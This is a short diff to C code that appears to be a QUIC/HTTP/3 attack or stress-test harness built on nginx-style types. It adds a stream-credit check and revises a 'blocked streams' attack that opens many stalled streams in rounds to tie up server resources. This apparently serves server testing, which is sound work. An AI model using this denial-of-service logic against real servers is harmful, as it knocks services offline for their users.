@@ -382,6 +382,17 @@ attack_qpack_bomb(ngx_uint_t n)
 }
 
 
+/* so many streams in all */
+
+static ngx_uint_t
+attack_may_open(client_t *c)
+{
+    return c->close.n
+           || ngx_max(c->max_streams_bidi, c->peer.initial_max_streams_bidi)
+              >= c->want;
+}
+
+
 /*
  * 23: as many blocked streams as are allowed, each with as much behind its
  * beginning as it may send; n rounds of them, each of which is cancelled.
@@ -412,9 +423,9 @@ attack_blocked_streams(ngx_uint_t n)
             for (k = 0; k < 18; k++) {
                 (void) client_send_stream(c, id, buf, sizeof(buf), 0);
             }
-        }
 
-        (void) client_wait(c, client_is_closed, 20);
+            (void) client_ping(c);
+        }
 
         for (i = 0; i < 16 && !c->close.n; i++) {
             id = 4 * (16 * round + i);
@@ -429,6 +440,12 @@ attack_blocked_streams(ngx_uint_t n)
 
             (void) attack_put(c, frames, p - frames, i);
         }
+
+        /* until there is credit for the next ones */
+
+        (void) client_ping(c);
+        c->want = 16 * (round + 2);
+        (void) client_wait(c, attack_may_open, CLIENT_TIMEOUT);
     }
 
     c->next_request = 4 * 16 * round;
